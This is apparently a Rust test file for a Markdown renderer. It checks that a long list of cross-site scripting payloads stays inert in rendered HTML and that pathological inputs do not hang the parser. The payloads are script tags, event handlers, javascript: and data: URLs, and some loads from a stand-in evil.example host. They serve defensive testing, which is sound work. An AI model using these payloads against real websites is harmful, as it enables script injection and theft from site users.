//! Texts that are meant to do harm: script in every place where Markdown holds text, and texts that never end.
//!
//! Two judges read what comes out: an HTML parser with a list of what is allowed, and ammonia, which may find nothing to
//! clean.

use std::collections::{BTreeSet, HashMap, HashSet};

use ammonia::url::Url as BrowserUrl;
use okrsite::source::markdown;
use proptest::prelude::*;
use scraper::{ElementRef, Html};

use crate::markdown::{html, pieces, style};

/// What the product writes: elements with the attributes they may have.
const ALLOWED: [(&str, &[&str]); 32] = [
    ("a", &["href", "title", "aria-label"]),
    ("blockquote", &[]),
    ("br", &[]),
    ("code", &[]),
    ("del", &[]),
    ("div", &["class", "tabindex"]),
    ("em", &[]),
    ("h2", &["id"]),
    ("h3", &["id"]),
    ("h4", &["id"]),
    ("h5", &["id"]),
    ("h6", &["id"]),
    ("hr", &[]),
    ("img", &["src", "alt", "title"]),
    ("li", &["id"]),
    ("ol", &["start"]),
    ("p", &[]),
    ("pre", &["tabindex"]),
    ("section", &["class", "aria-label"]),
    ("span", &["class", "role", "aria-label"]),
    ("strong", &[]),
    ("sup", &["id"]),
    ("table", &[]),
    ("tbody", &[]),
    ("td", &["class"]),
    ("th", &["class", "scope"]),
    ("thead", &[]),
    ("tr", &[]),
    ("ul", &[]),
    // what the parser puts around a fragment
    ("html", &[]),
    ("head", &[]),
    ("body", &[]),
];
const CLASSES: [&str; 6] = ["scroll", "right", "center", "task", "task done", "footnotes"];
const HERE: &str = "https://intranet.example/okr/objectives/growth.html";

const PAYLOADS: [&str; 104] = [
    // scripts and elements
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x'/>#x\"/></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<img src=//evil.example/pixel.gif>",
    "<img src=x:x onerror\n=\nalert(1)",
    "<image src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"x\" ping=//evil.example>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=\"background:url(//evil.example)\">x</div>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<xmp></xmp><img src=x onerror=alert(1)>",
    "<plaintext>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "</p></div></main><script>alert(1)</script>",
    "</code></pre><script>alert(1)</script>",
    "</td></tr></table><script>alert(1)</script>",
    "<table><td background=javascript:alert(1)>",
    "<p id=main class=done style=x title=y>z</p>",
    "<form id=document><input name=cookie></form>",
    // breaking out of an attribute
    "\" onmouseover=\"alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "' onmouseover='alert(1)",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\\\" onmouseover=\\\"alert(1)",
    "&quot; onmouseover=&quot;alert(1)",
    "&#34; onmouseover=&#34;alert(1)",
    "&#x22;&#x3e;&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "` onmouseover=alert(1)",
    "x\" onerror=\"alert(1)\" y=\"",
    "{#x onclick=alert(1)}",
    "{onclick=\"alert(1)\"}",
    "{{ 7 * 7 }} {% raw %}",
    // addresses
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "JaVaScRiPt:alert`1`",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java&#9;script:alert(1)",
    "java&#x0A;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript&colon;alert&lpar;1&rpar;",
    "&#0000106avascript:alert(1)",
    "javascript&#58;alert(1)",
    "javascript&colon;alert(1)",
    "java\\script:alert(1)",
    "javascript\\:alert(1)",
    "%6Aavascript:alert(1)",
    "javascript%3Aalert(1)",
    "&#1;javascript:alert(1)",
    "\u{1}javascript:alert(1)",
    "\u{a0}javascript:alert(1)",
    "\u{feff}javascript:alert(1)",
    "\u{200b}javascript:alert(1)",
    " javascript:alert(1)",
    "javascript://%0aalert(1)",
    "javascript:/*-->*/alert(1)//<",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "blob:https://intranet.example/1",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example/x",
    "/&#9;/evil.example/x",
    "https:evil.example",
];

/// Every place where a text can hold a payload.
fn contexts(payload: &str) -> [String; 24] {
    let p = payload;
    let one_line = payload.replace('\n', " ");
    let o = one_line.as_str();
    [
        p.to_owned(),
        format!("before {p} after"),
        format!("[{p}]({p})"),
        format!("[x](<{p}> \"{p}\")"),
        format!("[x]({p} '{p}')"),
        format!("![{p}](<{p}> \"{p}\")"),
        format!("![x]({p})"),
        format!("[![{p}]({p})]({p})"),
        format!("<{p}>"),
        format!("[x]\n\n[x]: {p} \"{p}\""),
        format!("[x][{o}]\n\n[{o}]: <{p}>\n  '{p}'"),
        format!("```{p}\n{p}\n```"),
        format!("~~~ {o}\n{o}\n~~~\n"),
        format!("    {o}"),
        format!("`{p}` ``{p}``"),
        format!("# {o} {{#x onclick=alert(1)}}"),
        format!("{p}\n==="),
        format!("| {o} |\n|{o}|\n| {o} |"),
        format!("| {o} |\n|:-:|\n| {o} | {o} |"),
        format!("- [x] {p}\n- [ ] {p}\n\n{o}. {p}"),
        format!("> {o}\n> # {o}"),
        format!("x[^{o}]\n\n[^{o}]: {p}"),
        format!("x[^1]\n\n[^1]: {p}\n\n    {o}"),
        format!("**{p}** _{p}_ ~~{p}~~\\\n{p}"),
    ]
}

#[test]
fn no_payload_is_active_in_any_place() {
    let judge = Judge::new();
    let mut wrong = Vec::new();
    for payload in PAYLOADS {
        for text in contexts(payload) {
            for first_heading in [Some(2), None] {
                let html = markdown::to_html(&text, &style(first_heading));
                wrong.extend(judge.faults(&html).into_iter().map(|fault| format!("{fault}: {text:?} became {html}")));
            }
        }
    }
    assert!(wrong.is_empty(), "{} faults\n{}", wrong.len(), wrong[..wrong.len().min(10)].join("\n"));
}

#[test]
fn the_judge_sees_what_is_active() {
    let judge = Judge::new();
    let active = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"https://evil.example/pixel.gif\">",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"//evil.example\">x</a>",
        "<a href=\"/\\evil.example\">x</a>",
        "<p style=\"color:red\">x</p>",
        "<p id=\"main\">x</p>",
        "<h2 id=\"main\">x</h2>",
        "<span class=\"status done\">x</span>",
        "<svg></svg>",
        "<!-- x -->",
    ];
    for html in active {
        assert!(!judge.faults(html).is_empty(), "{html}");
    }
    let harmless =
        "<h2 id=\"_a\">x</h2><a href=\"https://example.com\" title=\"t\">x</a><img src=\"a.png\" alt=\"\" />";
    assert_eq!(judge.faults(harmless), Vec::<String>::new());
}

/// Two judges in one.
struct Judge {
    ammonia: ammonia::Builder<'static>,
    here: BrowserUrl,
}

impl Judge {
    fn new() -> Self {
        let mut ammonia = ammonia::Builder::empty();
        let tags: HashSet<&str> = ALLOWED.iter().map(|(name, _)| *name).collect();
        let attributes: HashMap<&str, HashSet<&str>> =
            ALLOWED.iter().map(|(name, list)| (*name, list.iter().copied().collect())).collect();
        ammonia.tags(tags).tag_attributes(attributes).link_rel(None);
        ammonia.url_schemes(HashSet::from(["http", "https", "mailto"]));
        Self { ammonia, here: BrowserUrl::parse(HERE).expect("an address") }
    }

    /// What is wrong with `html`; nothing where it is passive.
    fn faults(&self, html: &str) -> Vec<String> {
        let read = Html::parse_fragment(html);
        let elements = || read.root_element().descendants().filter_map(ElementRef::wrap);
        let mut faults: Vec<String> = elements().filter_map(|element| self.fault(element)).collect();
        if read.root_element().descendants().any(|node| node.value().is_comment()) {
            faults.push("a comment".to_owned());
        }
        let cleaned = Html::parse_fragment(&self.ammonia.clean(html).to_string());
        if shape(&read) != shape(&cleaned) {
            faults.push("ammonia found something to clean".to_owned());
        }
        faults
    }

    fn fault(&self, element: ElementRef<'_>) -> Option<String> {
        let name = element.value().name();
        let Some((_, allowed)) = ALLOWED.iter().find(|(known, _)| *known == name) else {
            return Some(format!("<{name}>"));
        };
        element.value().attrs().find_map(|(key, value)| {
            let is_right = allowed.contains(&key)
                && match key {
                    "href" => self.leads_somewhere(value),
                    "src" => self.stays_here(value),
                    "id" => value.starts_with('_'),
                    "class" => CLASSES.contains(&value),
                    "tabindex" => value == "0",
                    "role" => value == "img",
                    "scope" => value == "col",
                    _ => true,
                };
            (!is_right).then(|| format!("{key}={value:?} of <{name}>"))
        })
    }

    /// To the web, to a mail address, or inside the site.
    fn leads_somewhere(&self, address: &str) -> bool {
        let Ok(seen) = self.here.join(address) else { return true }; // a browser does not follow it
        let lower = address.to_lowercase();
        match seen.scheme() {
            "mailto" => true,
            "http" | "https" => {
                lower.starts_with("http://") || lower.starts_with("https://") || self.stays_here(address)
            }
            _ => false,
        }
    }

    fn stays_here(&self, address: &str) -> bool {
        self.here.join(address).is_ok_and(|seen| seen.origin() == self.here.origin())
    }
}

/// Which elements a text has with which attributes.
fn shape(html: &Html) -> BTreeSet<(String, Vec<(String, String)>)> {
    let elements = html.root_element().descendants().filter_map(ElementRef::wrap);
    let attributes = |element: ElementRef<'_>| {
        element.value().attrs().map(|(key, value)| (key.to_owned(), value.to_owned())).collect()
    };
    elements.map(|element| (element.value().name().to_owned(), attributes(element))).collect()
}

/// Texts that have kept parsers busy without end, or filled their memory.
fn endless() -> Vec<(&'static str, String)> {
    let many = |piece: &str, times: usize| piece.repeat(times);
    let numbered = |times: usize, piece: &dyn Fn(usize) -> String| (0..times).map(piece).collect::<String>();
    vec![
        ("quotes", many(">", 10_000) + "x"),
        ("lists", numbered(400, &|depth| " ".repeat(depth) + "- a\n")),
        ("list marks", many("- ", 5_000) + "x"),
        ("brackets", many("[", 50_000)),
        ("closed brackets", many("[", 5_000) + &many("]", 5_000)),
        ("pictures", many("![[]()", 6_000)),
        ("links", many("[a](<b", 6_000)),
        ("link in link", many("[", 2_000) + "a" + &many("](b)", 2_000)),
        ("brackets of an address", format!("[a]({}", many("(", 30_000))),
        ("stars", many("*a ", 20_000)),
        ("strong", many("**a", 10_000)),
        ("stars and lines", many("*_", 20_000)),
        ("stars within stars", many("*a **b ", 5_000) + &many("c** d*", 5_000)),
        ("tildes", many("~~a", 10_000)),
        ("letters and lines", many("_a\u{e9}_", 10_000)),
        ("backticks", numbered(300, &|length| "`".repeat(length + 1) + " ")),
        ("fences", numbered(300, &|length| "~".repeat(length + 3) + "\n")),
        ("comments", many("<!--", 10_000)),
        ("elements", many("<a ", 15_000)),
        ("instructions", many("<?", 20_000)),
        ("declarations", many("<!A ", 10_000)),
        ("character data", many("<![CDATA[", 5_000)),
        ("open bold", many("<b>", 10_000)),
        ("open blocks", many("<div>\n", 5_000)),
        ("references", numbered(3_000, &|n| format!("[{n}]: u{n}\n")) + "\n" + &many("[0]", 3_000)),
        ("one long reference", format!("[{}]", many("a", 50_000))),
        ("entities", many("&", 50_000)),
        ("escapes", many("\\[", 20_000)),
        ("headings", many("# a\n", 5_000)),
        ("underlined", many("a\n", 10_000) + "===\n"),
        ("columns", format!("|{}\n|{}\n{}", many("a|", 200), many("-|", 200), many("|x\n", 100))),
        ("table marks", many("|-", 10_000) + "\n" + &many("|-", 10_000)),
        ("footnotes", many("[^1]", 5_000) + "\n\n[^1]: a\n"),
        ("notes", numbered(2_000, &|n| format!("[^{n}]: a[^{}]\n", n + 1))),
        ("notes of one name", many("[^1]: a[^1]\n\n", 2_000)),
        ("notes in quotes", numbered(200, &|depth| format!("{}[^{depth}]: a\n", "> ".repeat(depth)))),
        ("white space", many(" ", 50_000) + "a" + &many("\t", 50_000)),
        ("lines", many("\n", 50_000)),
        ("marks on letters", many("e\u{301}", 20_000)),
        ("words", many("word ", 50_000)),
    ]
}

#[test]
fn every_text_ends() {
    for (name, text) in endless() {
        // the smallest stack that a thread of the product has
        let small = std::thread::Builder::new().stack_size(2 << 20);
        let run = small.spawn(move || {
            let outline = markdown::outline(&text);
            let plain = markdown::plain_text(&text);
            (outline.links.len(), plain.len(), html(&text).len(), markdown::to_html(&text, &style(None)).len())
        });
        assert!(run.expect("a thread").join().is_ok(), "{name}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(600))]

    #[test]
    fn payloads_between_marks_are_passive(
        parts in proptest::collection::vec(
            prop_oneof![3 => pieces(), 2 => proptest::sample::select(&PAYLOADS[..]).prop_map(str::to_owned)], 1..5,
        ),
    ) {
        let html = html(&parts.concat());
        prop_assert_eq!(Judge::new().faults(&html), Vec::<String>::new(), "{}", html);
    }
}
